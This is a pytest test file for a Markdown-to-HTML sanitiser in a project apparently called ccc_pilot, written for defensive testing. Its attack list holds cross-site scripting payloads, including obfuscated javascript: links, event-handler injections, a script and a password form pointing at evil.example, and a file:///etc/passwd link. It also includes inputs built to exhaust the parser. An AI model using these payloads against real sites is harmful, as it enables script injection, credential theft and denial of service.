"""Users' Markdown becomes safe HTML, and no text keeps the house busy."""

import re

import pytest
from bs4 import BeautifulSoup

from ccc_pilot.web.markdown import ATTRIBUTES, LONGEST, TAGS, render

ATTACKS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>", "<object data=javascript:alert(1)>", "<embed src=//evil.example>", "<a href=javascript:alert(1)>x</a>", "<a onclick=alert(1)>x</a>",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](&#106;avascript:alert(1))", "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)", "[x]( javascript:alert(1))", "[x](\x01javascript:alert(1))", "[x](vbscript:x)", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)", "![x](javascript:alert(1))", "![x](https://evil.example/spy.gif)", "![x\" onerror=\"alert(1)](x)", "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>", "[x](https://a\" onmouseover=\"alert(1))", "[x](https://a 'b\" onclick=\"alert(1)')", "<style>*{display:none}</style>",
    "<p style=\"position:fixed\">x</p>", "<form action=//evil.example><input name=password></form>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--><img src=x onerror=alert(1)>-->",
    "<<script>alert(1)//<</script>", "<a href=\"https://ok\" target=_blank>x</a>", "`<script>alert(1)</script>`", "```\n<img src=x onerror=alert(1)>\n```",
    "# <img src=x onerror=alert(1)>", "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>", "<x id=csrf_token name=csrf_token>", "<a href=\"/logout\" hx-post=\"/logout\">x</a>", "<p hx-get=/x data-hx-get=/x class=btn id=main>x</p>",
)  # fmt: skip
HEAVY = (
    "[" * 20_000, "[" * 5_000 + "x" + "]" * 5_000, "![" * 9_000, "(" * 20_000, "*" * 20_000, "_" * 20_000, "`" * 19_999, "<" * 20_000, "*a " * 6_000, "**a" * 6_000,
    "> " * 5_000 + "x", "- " * 5_000 + "x", "1. " * 5_000 + "x", "\n".join("  " * n + "- x" for n in range(150)), "\n".join(" " * n + "> x" for n in range(150)),
    "a" * 1_000_000, "[a](" * 5_000, "[a][b]" * 3_000, "<a href=" * 2_000, "&" * 20_000, "|" * 20_000, "|a" * 9_000 + "\n" + "|-" * 900, "\\" * 20_000, "#" * 20_000,
    "\n" * 20_000 + "x", "a\n" * 9_999, "x" + " " * 19_000 + "x", "\t" * 19_000 + "x", "<!--" * 5_000, "[x]: a\n" * 2_000, "é" * 20_000, "\x00" * 20_000 + "x",
)  # fmt: skip


def faults(html):
    """Return all in ``html`` that may not stand there."""
    found = []
    for tag in BeautifulSoup(html, "html5lib").body.find_all(True):
        found += [tag.name] if tag.name not in TAGS | {"tbody"} else []
        found += [f"{tag.name} {name}" for name in tag.attrs if name not in ATTRIBUTES.get(tag.name, set()) | {"rel"}]
        scheme = re.match(
            r"([a-z][a-z0-9+.-]*):", re.sub(r"^[\x00-\x20]+|[\t\r\n]", "", tag.get("href", "")).lower()
        )  # as browsers read it
        found += [tag["href"]] if scheme and scheme[1] not in {"http", "https", "mailto"} else []
    return found


@pytest.mark.parametrize("text", ATTACKS)
def test_no_text_brings_script_style_or_foreign_things_into_a_page(text):
    assert faults(render(text)) == []
    assert faults(render(f"Hej\n\n- {text}\n\n> {text}")) == []


@pytest.mark.parametrize("text", HEAVY, ids=lambda text: f"{text[:6]!a} x {len(text)}")
@pytest.mark.timeout(30)
def test_no_text_keeps_the_house_busy(text):
    html = render(text)
    assert faults(html) == []
    assert len(html) <= 8 * len(text) + 100


def test_a_text_beyond_the_limits_is_shown_as_it_was_typed():
    text = "<b>" + "a" * LONGEST
    assert render(text) == f"<p>&lt;b&gt;{'a' * LONGEST}</p>"


def test_what_people_write_is_rendered():
    html = render(
        "# Rubrik\n\n**Viktigt** och *lagom*:\n\n1. ett\n2. två\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[Socialstyrelsen](https://www.socialstyrelsen.se)"
    )
    page = BeautifulSoup(html, "html5lib")
    assert page.h3.text == "Rubrik"
    assert [tag.text for tag in page.find_all(["strong", "em", "li", "td"])] == ["Viktigt", "lagom", "ett", "två", "1", "2"]
    assert (page.a["href"], page.a["rel"]) == ("https://www.socialstyrelsen.se", ["noopener", "noreferrer", "nofollow"])


@pytest.mark.parametrize("text", ["", " ", "\n\n"])
def test_no_text_is_no_paragraph(text):
    assert render(text) == ""


def test_tags_that_people_type_are_shown_as_they_were_typed():
    assert render("P <0,05 i <b>alla</b>\n\n<div>rad</div>") == (
        "<p>P &lt;0,05 i &lt;b&gt;alla&lt;/b&gt;</p>\n<p>&lt;div&gt;rad&lt;/div&gt;</p>"
    )
    assert 'href="https://example.org"' in render("Se <https://example.org>.")
